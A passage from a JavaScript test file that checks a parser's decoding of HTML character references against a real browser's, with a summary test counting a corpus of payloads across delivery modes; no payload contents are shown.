    return doc.body.firstElementChild.textContent.split(sep).slice(1, -1);
  }, { html: markup, sep: SEP });
  assert.equal(expected.length, refs.length);
  assert.equal(shown.length, refs.length, 'one reading per reference');
  const wrong = refs.flatMap((ref, i) => (shown[i] === expected[i] ? [] : [`&${ref} read as ${JSON.stringify(shown[i])}, not ${JSON.stringify(expected[i])}`]));
  assert.deepEqual(wrong, [], 'references read differently from the browser');
  assert.ok(expected.every((text, i) => text !== `&${refs[i]}`), 'the browser decoded every one (the check can fail)');
  assert.equal(expected[refs.indexOf('#x80;')], '\u20ac', 'the browser reads &#x80; as windows-1252 does');
  assert.deepEqual(page.consoleErrors, []);
});

test('corpus summary', (t) => {
  assert.ok(PAYLOADS.length >= 50);
  t.diagnostic(`${PAYLOADS.length} distinct payloads x ${MODES.length} delivery modes = ${delivered} deliveries in ${answers} answers`);
});
